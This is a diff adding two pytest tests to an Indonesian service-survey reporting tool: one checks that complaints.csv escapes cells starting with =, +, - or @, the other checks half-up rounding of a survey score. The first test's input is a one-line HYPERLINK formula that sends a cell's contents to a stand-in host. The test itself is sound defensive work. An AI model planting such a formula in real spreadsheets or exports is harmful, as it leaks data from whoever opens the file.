@@ -244,3 +244,85 @@ def test_terminal_says_the_ikm(report: Path, capsys: pytest.CaptureFixture[str])
     assert "3 responden dari 5 kunjungan selesai; sampel minimum 5" in text
     assert "2 pengaduan diterima pada periode ini" in text
     assert "masih dapat diisi" not in text  # NOW is long after the survey of the 24th closed
+
+
+async def test_complaints_csv_never_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
+    """complaints.csv is opened in a spreadsheet on the office PC (SP4N-LAPOR! operators). A
+    citizen's text, a manager's answer or note that begins with =, +, - or @ would be computed
+    there as a formula (OWASP "CSV injection": a HYPERLINK that sends the sheet away). Such a
+    cell is written with a leading apostrophe, which the spreadsheet shows as the text typed."""
+    from skm_period import Log, at, complaint
+
+    log = Log()
+    typed = '=HYPERLINK("http://contoh.invalid/?"&A1;"Klik")'
+    complaint(
+        log,
+        at(23, "10:00"),
+        "ADU-261123-001",
+        None,
+        "desk:M01",
+        text=typed,
+        take_by=at(26, "23:59"),
+    )
+    log.ev(
+        "manager:M01",
+        "complaint_taken",
+        at(23, "10:05"),
+        complaint="ADU-261123-001",
+        by="M01",
+        note="@Budi cek",
+        answer_by=at(30, "23:59"),
+    )
+    log.ev(
+        "manager:M01",
+        "complaint_answered",
+        at(23, "11:00"),
+        complaint="ADU-261123-001",
+        by="M01",
+        answer="+62 812 3456 7890 menghubungi Anda.",
+        closes_at=at(30, "11:00"),
+    )
+    complaint(
+        log,
+        at(23, "12:00"),
+        "ADU-261123-002",
+        None,
+        "desk:M01",
+        text="Antrean lama - tolong ditambah loket.",
+        take_by=at(26, "23:59"),
+    )
+    db, out = tmp_path / "antre.db", tmp_path / "out"
+    await write_store(db, log.entries())
+    argv = ["--day", "2026-11-23", "--db", str(db), "--out", str(out), "--skm", "--quiet"]
+    assert report_main(argv, now=NOW) == 0
+    rows = rows_by(out / "complaints.csv", "id")
+    first = rows["ADU-261123-001",]
+    assert first["text"] == "'" + typed
+    assert first["answer"] == "'+62 812 3456 7890 menghubungi Anda."
+    assert first["notes"] == "diproses: @Budi cek"  # begins with "diproses": no formula
+    # A text that only holds such a character further on is written as typed.
+    assert rows["ADU-261123-002",]["text"] == "Antrean lama - tolong ditambah loket."
+
+
+async def test_the_printed_nrr_is_rounded_half_up_as_the_floor_and_the_ikm_are(
+    tmp_path: Path,
+) -> None:
+    """Eight respondents whose U1 scores add up to 21: NRR = 21 ÷ 8 = 2.625 exactly, which two
+    decimals rounded half up (docs/survey.md, "The rounding rule") write as 2,63 — as the
+    floor writes the same NRR. A float format's half-to-even would print 2,62."""
+    from skm_period import Log, at
+
+    log = Log()
+    log.login(23, "L01", "DKP01")
+    for i, u1 in enumerate((3, 3, 3, 3, 3, 2, 2, 2), start=1):
+        number = f"A-{i:03d}"
+        log.visit(23, number, "L01", "DKP01", f"08:{i:02d} 08:{10 + i:02d} 08:{20 + i:02d}")
+        log.answer(at(23, "09:00"), f"2026-11-23/{number}", "phone", f"{u1} 3 3 3 3 3 3 3 3")
+    db, out = tmp_path / "antre.db", tmp_path / "out"
+    await write_store(db, log.entries())
+    argv = ["--day", "2026-11-23", "--db", str(db), "--out", str(out), "--skm", "--quiet"]
+    assert report_main(argv, now=NOW) == 0
+    page = (out / "skm.html").read_text(encoding="utf-8")
+    row = page[page.index("<td>U1</td>") :]
+    row = row[: row.index("</tr>")]
+    assert '<td class="n">21</td><td class="n">2,63</td>' in row
